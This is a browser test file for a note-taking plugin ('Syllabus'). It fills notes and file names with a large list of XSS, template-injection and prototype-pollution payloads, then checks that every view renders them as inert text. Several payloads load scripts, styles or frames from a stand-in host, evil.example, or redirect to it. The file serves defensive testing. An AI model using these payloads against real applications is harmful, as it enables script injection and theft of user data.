import type { Locator } from 'playwright';
import { describe, expect, it } from 'vitest';
import { en } from '../../src/i18n/en';
import { alone } from './alone';
import type { PlaygroundPage } from './playground';
import { openedPerTest } from './visits';

const evil = 'evil.example';
/** What runs, asks the network or moves the page if any of it becomes markup, a style, a template or a query. */
const payloads = [
  `<img src=x onerror=hit()>`,
  `<img src="https://${evil}/pixel.png">`,
  `"><img src=x onerror=hit()>`,
  `'><svg onload=hit()>`,
  `<svg><script>hit()</script></svg>`,
  `<svg><animate onbegin=hit() attributeName=x dur=1s>`,
  `<script>hit()</script>`,
  `<script src="https://${evil}/x.js"></script>`,
  `<iframe src="https://${evil}/"></iframe>`,
  `<iframe srcdoc="<script>parent.hit()</script>"></iframe>`,
  `<style>body { display: none }</style>`,
  `<style>@import "https://${evil}/x.css";</style>`,
  `<link rel="stylesheet" href="https://${evil}/x.css">`,
  `<a href="javascript:hit()" autofocus onfocus="hit()">go</a>`,
  `<details open ontoggle=hit()>more</details>`,
  `<input autofocus onfocus=hit()>`,
  `<video><source onerror=hit()></video>`,
  `<video src="https://${evil}/v.mp4" autoplay></video>`,
  `<object data="https://${evil}/o"></object>`,
  `<embed src="https://${evil}/e">`,
  `<math><mi xlink:href="data:x,<script>hit()</script>">x</mi></math>`,
  `<form action="https://${evil}/"><button>send</button></form>`,
  `<marquee onstart=hit()>round</marquee>`,
  `<meta http-equiv="refresh" content="0;url=https://${evil}/">`,
  `<base href="https://${evil}/">`,
  `<template><img src=x onerror=hit()></template>`,
  `<!--><img src=x onerror=hit()>-->`,
  `<![CDATA[<img src=x onerror=hit()>]]>`,
  `&lt;img src=x onerror=hit()&gt;`,
  `&#60;img src=x onerror=hit()&#62;`,
  `\\u003cimg src=x onerror=hit()\\u003e`,
  `![](https://${evil}/picture.png)`,
  `![[Other]] ![[https://${evil}/x.png]]`,
  `{{constructor.constructor("hit()")()}}`,
  '${hit()}',
  '`= hit()`',
  '`$= hit()`',
  `<% hit() %>`,
  `$$\\href{javascript:hit()}{x}$$`,
  `[run](javascript:hit())`,
  `[run](data:text/html,<script>hit()</script>)`,
  `<javascript:hit()>`,
  `red;background:url(https://${evil}/c)`,
  `</style><script>hit()</script>`,
  `x" style="background:url(https://${evil}/d)" onmouseover="hit()`,
  `__proto__`,
  `constructor`,
  `toString`,
] as const;

/** Every place of a note that is shown somewhere, with one payload in all of them. */
const note = (payload: string): string =>
  [
    `# C ${payload}`,
    `playlist:: ${payload}`,
    `## S ${payload}`,
    `- [ ] L ${payload} [time:: ${payload}] #${payload} 📅 2026-01-01`,
    `    - [x] [label ${payload}](https://ok.example/1)`,
    `    - [ ] [[Other|alias ${payload}]]`,
    `-[ ] slip ${payload}`,
    `- [ ]`,
    '',
    `- **P ${payload}**`,
    `    - done [R ${payload}](https://ok.example/2)`,
    `    - https://ok.example/3 ${payload}`,
    '',
  ].join('\n');

const files = {
  ...alone,
  ...Object.fromEntries(payloads.map((payload, n) => [`Note ${n}.md`, note(payload)])),
  // What a name of a note may hold is less than what a note may.
  '<img src=x onerror=hit()>.md': '# One\n- [ ] a\n',
  "'-hit()-'&lt;svg onload=hit()&gt;.md": '- [ ] a\n',
  '__proto__.md': '# constructor\n- [ ] a\n',
  'Order.md': ['[[__proto__]]', ...payloads].map((payload, n) => `${n + 1}. ${payload}\n`).join(''),
};
/** The elements that Syllabus and the app's own parts are made of; nothing a payload brings is among them. */
const known = new Set(
  (
    'a article aside bdi button circle code dd del details div dl dt fieldset footer form g h1 h2 h3 h4 header input kbd label legend li line mark nav ol ' +
    'option optgroup output p path polyline polygon progress rect section select small span strong sub summary svg table tbody td textarea th thead time title tr ul'
  ).split(' '),
);
const shown = '.syllabus-leaf, .syllabus-catalogue, .syllabus-check-up, .modal, .menu, .notice, .status-bar, .prompt';

describe('what stands in a note', () => {
  const browser = openedPerTest();

  async function visit(): Promise<{ on: PlaygroundPage; dialogs: string[] }> {
    const notes = Object.keys(files).filter((path) => !(path in alone) && path !== 'Order.md');
    const on = await browser.visit({ files, data: JSON.stringify({ version: 1, notes }) });
    const dialogs: string[] = [];
    on.page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await on.page.evaluate(() => {
      Object.assign(window, { hits: 0, hit: () => (window as unknown as { hits: number }).hits++ });
    });
    return { on, dialogs };
  }
  /** What on the screen is no part of Syllabus: elements, events in attributes, addresses and styles that a note brought. */
  const foreign = (on: PlaygroundPage): Promise<string[]> =>
    on.page.evaluate(
      ([surfaces, tags]) =>
        [...document.querySelectorAll(surfaces)]
          .flatMap((el) => [el, ...el.querySelectorAll('*')])
          .flatMap((el) => {
            const attributes = [...el.attributes].filter(
              ({ name, value }) =>
                name.startsWith('on') ||
                (/^(?:style|src|href|action|srcdoc)$/u.test(name) && /hit|evil|url/u.test(value)),
            );
            const bad = tags.includes(el.localName) ? [] : [el.localName];
            return [...bad, ...attributes.map(({ name, value }) => `${el.localName} ${name}=${value}`)];
          }),
      [shown, [...known]] as const,
    );
  const isQuiet = async ({ on, dialogs }: { on: PlaygroundPage; dialogs: string[] }): Promise<void> => {
    expect(await foreign(on)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(on.foreignRequests).toEqual([]);
    expect(await on.page.evaluate(() => (window as unknown as { hits: number }).hits)).toBe(0);
    expect(await on.page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
  };
  /** How many payloads are read on the screen as they are. What the note's Markdown makes of the others is another test's. */
  const read = async (where: Locator): Promise<number> => {
    // The builder shows what it will write: with a backslash before each sign that must stay text.
    const text = (await where.innerText()).replaceAll('\\', '');
    return payloads.filter((payload) => text.includes(payload)).length;
  };

  it('is text in the dashboard, in each of its trees, in its menus and in what is left', async () => {
    const visited = await visit();
    const { on } = visited;
    await on.runCommand(en.commands.openDashboard);
    const leaf = on.page.locator('.syllabus-dashboard');
    await leaf.getByRole('article').nth(payloads.length).waitFor();
    const folded = leaf.getByRole('button', { name: /^Show the lessons of/u });
    await folded.evaluateAll((all) => {
      for (const one of all) (one as HTMLElement).click();
    });
    await expect.poll(() => folded.count()).toBe(0);
    expect(await read(leaf)).toBeGreaterThan(payloads.length / 2);
    await isQuiet(visited);
    for (const row of [leaf.getByRole('treeitem').first(), leaf.locator('.syllabus-course-title button').first()]) {
      await row.click({ button: 'right' });
      await on.page.locator('.menu-item').first().waitFor();
      await isQuiet(visited);
      await on.page.keyboard.press('Escape');
    }
    await on.runCommand(en.commands.whatIsLeft);
    await on.page.locator('.prompt .suggestion-item').first().waitFor();
    await isQuiet(visited);
  });

  it('is text in the catalogue, the check-up and the settings', async () => {
    const visited = await visit();
    const { on } = visited;
    await on.runCommand(en.catalogue.open);
    const catalogue = on.page.locator('.syllabus-catalogue');
    await catalogue.getByRole('treeitem').first().waitFor();
    expect(await catalogue.innerText()).toContain(evil);
    await isQuiet(visited);
    await on.runCommand(en.checkUp.open);
    const checkUp = on.page.locator('.syllabus-check-up');
    await checkUp.locator('.syllabus-finding').first().waitFor();
    expect(await read(checkUp)).toBeGreaterThan(payloads.length / 2);
    await isQuiet(visited);
    await on.openSettings();
    await isQuiet(visited);
  });

  it('is text in the previews of the builder and of the course order', async () => {
    const visited = await visit();
    const { on } = visited;
    await on.openNote('Order.md');
    await on.runCommand(en.builder.insert);
    await on.page.getByLabel(en.builder.list).fill(payloads.join('\n'));
    expect(await read(on.page.locator('.modal .syllabus-preview'))).toBeGreaterThan(payloads.length / 2);
    await isQuiet(visited);
    await on.page.keyboard.press('Escape');
    await on.runCommand('Use this list as my course order');
    await on.page.locator('.modal .syllabus-order').waitFor();
    expect(await read(on.page.locator('.modal'))).toBeGreaterThan(payloads.length / 3);
    await isQuiet(visited);
  });
});
